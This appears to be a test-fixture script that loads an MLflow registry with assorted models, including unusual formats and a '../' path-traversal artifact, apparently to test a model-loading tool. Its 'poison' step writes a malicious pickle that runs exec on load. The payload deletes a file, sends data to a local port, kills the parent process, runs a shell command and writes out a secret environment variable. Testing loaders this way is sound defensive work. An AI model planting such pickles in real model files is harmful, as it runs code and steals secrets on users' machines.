"""What others do with MLflow, in an environment that has all of it: `python mlflow_author.py SERVER STEP`."""

import json
import pickle
import sys
import tempfile
from pathlib import Path
from typing import Any

import mlflow
import numpy as np
from sklearn.datasets import load_iris
from sklearn.ensemble import RandomForestClassifier
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler
from sklearn.svm import SVC

ROWS = np.random.default_rng(3).uniform(0.1, 8, (50, 4))


class Poison:
    """Opening it runs `attack` with the file to harm and the port to reach."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return exec, (self.code,)


ATTACK = """
import os, signal, socket, sys
def attempt(action, *arguments):
    try:
        action(*arguments)
    except Exception as error:
        print(f"{{action}}: {{error}}", file=sys.stderr)
attempt(os.unlink, {victim!r})
attempt(lambda: open({victim!r} + ".new", "w").write("x"))
attempt(lambda: socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen"))
attempt(os.kill, {parent}, signal.SIGKILL)
attempt(os.system, "touch {victim}.shell")
attempt(lambda: open({victim!r} + ".environment", "w").write(os.environ["SECRET"]))
raise RuntimeError("SECRET" in os.environ and "found a secret" or "opened")
"""


def log(name: str, model: Any, **options: Any) -> None:
    with mlflow.start_run():
        mlflow.sklearn.log_model(
            model, name="model", registered_model_name=name, pip_requirements=["scikit-learn"], **options
        )
    mlflow.MlflowClient().set_registered_model_alias(name, "champion", "1")


def raw(name: str, files: dict[str, bytes]) -> None:
    """A version with any files."""
    client = mlflow.MlflowClient()
    run = client.create_run("0")
    with tempfile.TemporaryDirectory() as folder:
        for file, content in files.items():
            (Path(folder) / file).write_bytes(content)
        client.log_artifacts(run.info.run_id, folder, "model")
    client.create_registered_model(name)
    client.create_model_version(name, f"{run.info.artifact_uri}/model", run_id=run.info.run_id)


def described(flavor: str, file: str) -> bytes:
    content = {"pickled_model": file, "serialization_format": "pickle", "sklearn_version": "1.9.1"}
    return json.dumps({"flavors": {flavor: content}}).encode()


def main(server: str, step: str, *words: str) -> None:
    mlflow.set_tracking_uri(server)
    rows, labels = load_iris(return_X_y=True)
    if step == "models":
        forest = make_pipeline(StandardScaler(), RandomForestClassifier(30, random_state=1)).fit(rows, labels)
        log("forest", forest, skops_trusted_types=["sklearn.tree._tree.Tree"])
        log("machine", SVC(probability=False).fit(rows, labels), serialization_format="pickle")
        names = np.array(["virginica", "versicolor", "setosa"])[labels]
        log(
            "mixed",
            RandomForestClassifier(3).fit(rows, np.char.add("a ", names)),
            serialization_format="cloudpickle",
        )
        raw("other", {"MLmodel": described("xgboost", "model.bin"), "model.bin": b""})
        raw("outside", {"MLmodel": described("sklearn", "../model.pkl"), "model.pkl": b""})
        sys.stdout.write(
            json.dumps({"rows": ROWS.tolist(), "probabilities": forest.predict_proba(ROWS).tolist()})
        )
    elif step == "poison":
        victim, port, parent = words
        code = ATTACK.format(victim=victim, port=int(port), parent=int(parent))
        raw("poison", {"MLmodel": described("sklearn", "model.pkl"), "model.pkl": pickle.dumps(Poison(code))})
    elif step == "read":
        [version] = mlflow.MlflowClient().search_model_versions("name='iris'")
        run = mlflow.get_run(version.run_id)
        model = mlflow.sklearn.load_model(f"models:/iris/{version.version}")
        answers = model.predict_proba(ROWS).tolist()
        sys.stdout.write(
            json.dumps({"metrics": run.data.metrics, "params": run.data.params, "probabilities": answers})
        )


if __name__ == "__main__":
    main(*sys.argv[1:])
